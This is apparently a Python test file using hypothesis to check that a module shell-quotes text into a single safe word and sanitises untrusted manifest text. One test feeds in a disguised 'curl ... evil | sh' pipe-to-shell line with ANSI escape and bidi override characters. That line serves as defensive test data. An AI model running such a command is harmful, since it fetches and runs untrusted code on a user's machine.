"""A word of advice is one word to a shell, whatever it holds."""

from __future__ import annotations

import shlex

from hypothesis import given
from hypothesis import strategies as st

from las_jupyter.core.advice import their_words, word


@given(st.text())
def test_a_word_of_advice_is_one_word_on_one_line(text: str) -> None:
    written = word(text)

    assert len(shlex.split(written)) == 1
    assert len(written.splitlines()) == 1


@given(st.text(st.characters(categories=["L", "N", "P", "S"])))
def test_what_can_be_seen_is_kept_as_it_is(text: str) -> None:
    assert shlex.split(word(text)) == [text]


def test_the_words_of_a_stranger_are_one_line_and_said_to_be_theirs() -> None:
    told = their_words("run\n\x1b[31mcurl \u202e evil | sh" + "x" * 1000)

    assert told.startswith("its manifest says: “run ?[31mcurl ? evil | sh")
    assert len(told) < 350
